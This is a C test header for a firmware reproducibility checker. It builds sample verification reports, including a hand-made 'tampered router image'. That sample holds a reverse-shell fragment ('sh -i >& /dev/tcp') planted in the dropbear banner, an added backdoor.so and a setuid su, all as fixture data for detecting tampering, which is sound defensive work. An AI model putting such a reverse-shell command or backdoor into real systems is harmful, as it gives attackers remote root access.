#ifndef ASSAY_TEST_REPORT_SAMPLE_H
#define ASSAY_TEST_REPORT_SAMPLE_H

#include "../judge/build.h"

#include "report/report.h"

#include "util/json.h"

/* Reports of accounts that are built by hand. */

typedef struct
{
  Build *build;
  AssayJudgement *judgement;
  AssayNode *expected_root;
  AssayExpectation expectation;
  AssayReport report;
} Sample;

static inline json_t *
sample_json (const char *text)
{
  json_t *value = json_loads (text, 0, NULL);
  assert_non_null (value);
  return value;
}

static inline Sample *
sample_new (void)
{
  Sample *sample = g_new0 (Sample, 1);
  sample->build = build_new ();
  return sample;
}

/* Judges what was built, and fills the report in. */
static inline void
sample_finish (Sample *sample, const char *image, const char *expected, const char *policy)
{
  sample->judgement = build_judge (sample->build);
  sample->report = (AssayReport){ .image = sample_json (image),
                                  .expected = sample_json (expected),
                                  .policy = sample_json (policy),
                                  .options = sample_json ("{\"mode\":\"verify\",\"scope\":null}"),
                                  .account = &sample->build->account,
                                  .pairing = &sample->build->pairing,
                                  .judgement = sample->judgement };
}

static inline void
sample_free (Sample *sample)
{
  json_decref (sample->report.image);
  json_decref (sample->report.expected);
  json_decref (sample->report.policy);
  json_decref (sample->report.options);
  assay_judgement_free (sample->judgement);
  build_free (sample->build);
  g_free (sample);
}
G_DEFINE_AUTOPTR_CLEANUP_FUNC (Sample, sample_free)

static const char sample_image[]
    = "{\"path\":\"out/router.squashfs\",\"size\":1234567,\"format\":\"squashfs\",\"sha256\":"
      "\"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\"}";
static const char sample_rebuild[]
    = "[{\"kind\":\"rebuild\",\"cached\":false,\"recipe\":{\"authenticated\":false,\"sha256\":"
      "\"77aa0b1c2d3e4f5061728394a5b6c7d8e9f00112233445566778899aabbccdde\"},\"source\":{\"authenticated\":false},"
      "\"toolchain\":{\"authenticated\":true}}]";
static const char sample_no_policy[] = "{\"result\":\"none\",\"failures\":[]}";

static inline AssayFinding *
sample_bytes (AssayFinding *finding, const char *shipped, gsize shipped_length, const char *expected,
              gsize expected_length)
{
  memcpy (finding->shipped, shipped, shipped_length);
  finding->shipped_length = (guint8)shipped_length;
  memcpy (finding->expected, expected, expected_length);
  finding->expected_length = (guint8)expected_length;
  return finding;
}

static inline void
sample_name (AssayFinding *finding, const char *section, const char *symbol, gboolean is_function, const char *named_by,
             guint64 address, const char *message)
{
  AssayFindingWords *words = assay_finding_tell (finding);
  words->section = g_strdup (section);
  words->symbol = g_strdup (symbol);
  words->is_function = is_function;
  words->named_by = named_by;
  finding->has_address = address != 0;
  finding->address = address;
  g_free (words->own_message);
  finding->message = words->own_message = g_strdup (message);
}

static inline void
sample_add_dropbear (Sample *sample)
{
  Build *build = sample->build;
  AssayNodeAccount *file = build_file (build, "usr/sbin/dropbear", 180000);
  file->has_origin = TRUE;
  build_range (build, file, 0x1a40, ASSAY_CLASS_IDENTICAL, "equal");
  sample_name (sample_bytes (build_range (build, file, 3, ASSAY_CLASS_UNEXPLAINED, "differs"), "\x90\x48\xe5", 3,
                             "\x75\x48\xeb", 3),
               ".text", "svr_auth_password", TRUE, "rebuild", 0x401a40,
               "these bytes are not the ones that the rebuild made");
  build_range (build, file, 100000, ASSAY_CLASS_IDENTICAL, "equal");
  sample_name (sample_bytes (build_range (build, file, 40, ASSAY_CLASS_UNEXPLAINED, "differs"),
                             "Welcome, root!\0\0sh -i >& /dev/tcp", 32,
                             "Welcome to dropbear\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 24),
               ".rodata", "banner", FALSE, "shipped", 0x41a0c3, "these bytes are not the ones that the rebuild made");
  build_range (build, file, 180000 - 0x1a40 - 100043, ASSAY_CLASS_IDENTICAL, "equal");
  file->worst = ASSAY_CLASS_UNEXPLAINED;
  file->node->format = "elf";
  file->machine = "AArch64";
  file->has_digest = TRUE;
  file->digest.bytes[0] = 0xab;
  file->sections = g_array_new (FALSE, TRUE, sizeof (AssaySectionAccount));
  file->segments = g_array_new (FALSE, TRUE, sizeof (AssaySegmentAccount));
  AssaySectionAccount section = { .name = (char *)".text",
                                  .offset = 0x1000,
                                  .size = 0x8000,
                                  .address = 0x401000,
                                  .flags = "AX",
                                  .class_ = ASSAY_CLASS_UNEXPLAINED,
                                  .has_digest = TRUE };
  AssaySegmentAccount segment = { .type = (char *)"LOAD", .size = 0x9000, .address = G_MAXUINT64, .flags = "RX" };
  g_array_append_val (file->sections, section);
  g_array_append_val (file->segments, segment);
}

/* What a tampered image looks like: changed code, an added file, a missing one, modes, an explained gap. */
static inline Sample *
sample_mismatch (void)
{
  Sample *sample = sample_new ();
  Build *build = sample->build;
  AssayNodeAccount *root = build_file (build, ".", 4096);
  root->node->format = "squashfs";
  build_range (build, root, 4000, ASSAY_CLASS_IDENTICAL, "equal");
  sample_name (build_range (build, root, 96, ASSAY_CLASS_STRUCTURE, "rewritten"), NULL, NULL, FALSE, NULL, 0,
               "container bytes, written again from accepted facts and content");
  sample_add_dropbear (sample);
  AssayNode *added
      = build_node (build, "usr/lib/a-directory-with-quite-a-long-name/and-one-more/below-it/x//.cache/backdoor.so",
                    ASSAY_NODE_FILE, 1050000);
  AssayNodeAccount *added_account = build_account_for (build, added, ASSAY_MATCH_NONE);
  sample_name (sample_bytes (build_range (build, added_account, 1050000, ASSAY_CLASS_UNEXPLAINED, "no-counterpart"),
                             "\x7f"
                             "ELF\2\1\1\0\0\0\0\0\0\0\0\0",
                             16, "", 0),
               NULL, NULL, FALSE, NULL, 0, "the rebuild made nothing that belongs here");
  build_fact (build, added, "name", "backdoor.so", NULL, ASSAY_CLASS_UNEXPLAINED, "added");
  AssayNodeAccount *su = build_file (build, "usr/bin/su", 471);
  build_range (build, su, 400, ASSAY_CLASS_IDENTICAL, "equal");
  sample_name (build_range (build, su, 71, ASSAY_CLASS_EXPLAINED, "filler"), NULL, NULL, FALSE, NULL, 0,
               "uniform fill between the segments, where the rebuild has no bytes");
  for (guint i = 0; i < 420; i++)
    build_fact (build, su->node, "uid", "0", "0", ASSAY_CLASS_IDENTICAL, "equal");
  build_fact (build, su->node, "mode", "0104755", "0100755", ASSAY_CLASS_UNEXPLAINED, "differs");
  build_fact (build, su->node, "mtime", "1760000000", "1760000001", ASSAY_CLASS_EXPLAINED, "container-time");
  build_missing (build, "etc/x", build_node (build, "x", ASSAY_NODE_FILE, 1234));
  sample_finish (sample, sample_image, sample_rebuild,
                 "{\"result\":\"fail\",\"failures\":[\"the verdict is mismatch, the policy requires equivalent or "
                 "better, and nothing else would do\"]}");
  return sample;
}

static inline Sample *
sample_identical (void)
{
  Sample *sample = sample_new ();
  AssayNodeAccount *root = build_file (sample->build, ".", 4096);
  build_range (sample->build, root, 4096, ASSAY_CLASS_IDENTICAL, "equal");
  sample_finish (sample, sample_image, "[{\"kind\":\"path\",\"path\":\"reference/router.squashfs\"}]",
                 sample_no_policy);
  return sample;
}

static inline Sample *
sample_equivalent (void)
{
  Sample *sample = sample_new ();
  AssayNodeAccount *root = build_file (sample->build, ".", 1000000);
  build_range (sample->build, root, 999996, ASSAY_CLASS_IDENTICAL, "equal");
  sample_name (build_range (sample->build, root, 4, ASSAY_CLASS_EXPLAINED, "filler"), NULL, NULL, FALSE, NULL, 0,
               "uniform fill between the segments, where the rebuild has no bytes");
  AssayNodeAccount *other = build_account_for (
      sample->build, build_node (sample->build, "field/data", ASSAY_NODE_FILE, 500), ASSAY_MATCH_NONE);
  other->in_scope = FALSE;
  other->worst = ASSAY_CLASS_OUTSIDE;
  build_range (sample->build, other, 500, ASSAY_CLASS_OUTSIDE, "scope");
  sample_finish (sample, sample_image, sample_rebuild, "{\"result\":\"pass\",\"failures\":[]}");
  return sample;
}

static inline Sample *
sample_undecided (void)
{
  Sample *sample = sample_new ();
  AssayNodeAccount *root = build_file (sample->build, ".", 4096);
  build_range (sample->build, root, 4000, ASSAY_CLASS_IDENTICAL, "equal");
  sample_name (build_range (sample->build, root, 96, ASSAY_CLASS_UNDECIDED, "unread"), NULL, NULL, FALSE, NULL, 0,
               "could not be read");
  g_ptr_array_add (sample->build->account.undecided,
                   g_strdup ("boot/initrd//#xz: the limit \"ratio\" was hit: more than 1,000 times as large"));
  sample_finish (sample, sample_image, sample_rebuild, sample_no_policy);
  return sample;
}

#endif
